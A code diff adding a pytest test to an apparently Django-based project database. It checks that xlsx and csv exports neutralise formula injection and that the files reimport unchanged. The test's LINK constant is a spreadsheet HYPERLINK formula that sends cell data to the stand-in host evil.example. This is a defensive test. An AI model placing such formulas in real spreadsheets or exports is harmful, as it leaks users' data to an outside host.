@@ -184,3 +184,24 @@ def test_demo_data_is_marked_and_loads_once():
     meeting = Activity.objects.get(date=datetime.date(2022, 6, 11))
     assert meeting.pairing.code == "N09" and "演示数据" in meeting.note
     assert set(Activity.objects.values_list("pairing__code", flat=True)) == {"N09", "N04", "N08"}
+
+
+LINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击")'
+
+
+def test_formula_text_is_never_a_live_formula_in_either_export_and_reimports_unchanged(world):
+    pt.project(world["xinyang"], LINK, note="-1+2")
+    _name, content = excel.export_file(kind="projects", user=world["editor"], filters={}, fmt="xlsx")
+    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value != "苏信电子信息产业园" and "茶叶" not in r[1].value)
+    assert (row[1].value, row[1].data_type) == ("'" + LINK, "s")
+    assert (row[12].value, row[12].data_type) == ("'-1+2", "s")
+    assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
+    assert isinstance(row[6].value, int | float)  # an investment stays a number
+    _name, text = excel.export_file(kind="projects", user=world["editor"], filters={}, fmt="csv")
+    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
+    assert ["'" + LINK, "'-1+2"] in [[r[1], r[12]] for r in rows]
+    for data, fmt in ((content, "xlsx"), (text, "csv")):
+        result = excel.import_projects(user=world["editor"], data=data, filename=f"p.{fmt}")
+        assert (result["created"], result["updated"], result["unchanged"]) == (0, 0, 3), fmt
+    assert Project.objects.filter(name=LINK, note="-1+2").count() == 1
